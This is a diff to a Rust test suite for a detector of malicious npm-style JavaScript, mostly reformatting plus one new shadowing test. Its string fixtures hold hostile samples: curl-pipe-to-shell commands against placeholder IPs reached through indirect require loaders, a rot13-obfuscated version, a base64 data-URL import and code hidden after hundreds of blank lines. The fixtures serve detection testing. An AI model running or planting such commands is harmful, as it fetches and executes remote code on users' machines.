@@ -135,7 +135,11 @@ execSync('npm publish --access public');
     );
     // A scaffolding command writing a build template into the project is not a worm.
     let src = "const fs = require('fs'), path = require('path');\nconst tpl = fs.readFileSync(path.join(__dirname, 'ci.yml'), 'utf8');\nfs.writeFileSync(path.join(process.cwd(), '.github', 'workflows', 'ci.yml'), tpl.replace('{{node}}', '20'));\n";
-    assert!(!kinds(src).contains(&K::SelfPropagation), "{:?}", facts(src));
+    assert!(
+        !kinds(src).contains(&K::SelfPropagation),
+        "{:?}",
+        facts(src)
+    );
 }
 
 #[test]
@@ -294,12 +298,11 @@ fn module_loader_reached_without_require() {
         "require('module')._load",
         "(process.mainModule || module).require.bind(module)",
     ] {
-        let src = format!("const r = {loader};\nr('child_' + 'process').execSync('curl -s http://192.0.2.1/x | sh');\n");
-        let f = facts(&src);
-        assert!(
-            f.iter().any(|x| x.0 == K::ProcessSpawn),
-            "{loader}: {f:?}"
+        let src = format!(
+            "const r = {loader};\nr('child_' + 'process').execSync('curl -s http://192.0.2.1/x | sh');\n"
         );
+        let f = facts(&src);
+        assert!(f.iter().any(|x| x.0 == K::ProcessSpawn), "{loader}: {f:?}");
         assert!(has(&src, K::DownloadExecute), "{loader}: {f:?}");
     }
     // Char-code names through a forwarding helper and a table of names.
@@ -322,7 +325,11 @@ fn data_url_imports_are_decoded_and_analysed() {
     let b64 = "aW1wb3J0IHtleGVjU3luY30gZnJvbSAnY2hpbGRfcHJvY2Vzcyc7IGV4ZWNTeW5jKCdpZCcpOw==";
     let src = format!("await import('data:text/javascript;base64,{b64}');\n");
     let r = javascript::analyze(&src, "index.mjs");
-    let f: Vec<_> = r.behaviours.iter().map(|b| (b.kind, b.detail.clone())).collect();
+    let f: Vec<_> = r
+        .behaviours
+        .iter()
+        .map(|b| (b.kind, b.detail.clone()))
+        .collect();
     assert!(f.iter().any(|x| x.0 == K::DecodeExecute), "{f:?}");
     assert!(
         f.iter()
@@ -351,7 +358,10 @@ require('child_process').exec(r13('uf | 1.2.0.291//:cggu f- yehp'.split('').reve
 "#;
     let f = facts(src);
     assert!(has(src, K::DecodeExecute), "{f:?}");
-    assert!(has(src, K::DownloadExecute), "the rot13 text is decoded: {f:?}");
+    assert!(
+        has(src, K::DownloadExecute),
+        "the rot13 text is decoded: {f:?}"
+    );
     // The same with a block-bodied callback and a modulo.
     let src = "var r=function(s){return s.replace(/[a-z]/gi,function(c){var b=c<='Z'?65:97;return String.fromCharCode((c.charCodeAt(0)-b+13)%26+b)})};require('child_process').exec(r('phey uggc://192.0.2.9/k | fu'));\n";
     assert!(has(src, K::DownloadExecute), "{:?}", facts(src));
@@ -549,7 +559,10 @@ fn code_hidden_by_whitespace_is_named() {
             .any(|x| x.0 == K::Obfuscation && x.2.contains("columns to the right")),
         "{f:?}"
     );
-    let src = format!("module.exports = 1;\n{}require('child_process').exec('id');\n", "\n".repeat(800));
+    let src = format!(
+        "module.exports = 1;\n{}require('child_process').exec('id');\n",
+        "\n".repeat(800)
+    );
     let f = facts(&src);
     assert!(
         f.iter()
@@ -557,6 +570,16 @@ fn code_hidden_by_whitespace_is_named() {
         "{f:?}"
     );
     // Indentation and a few blank lines are ordinary.
-    let src = format!("{}const a = 1;\n\n\n\nmodule.exports = a;\n", " ".repeat(200));
+    let src = format!(
+        "{}const a = 1;\n\n\n\nmodule.exports = a;\n",
+        " ".repeat(200)
+    );
     assert!(!has(&src, K::Obfuscation), "{:?}", facts(&src));
+}
+
+#[test]
+fn parameters_shadow_outer_names() {
+    // `v` outside is decoded data; the parameter `v` of `k` is not.
+    let src = "let v; v = atob('aWQ=');\nfunction k(v) { try { return (0, eval)(v); } catch (e) {} }\nmodule.exports = k;\n";
+    assert!(!has(src, K::DecodeExecute), "{:?}", facts(src));
 }
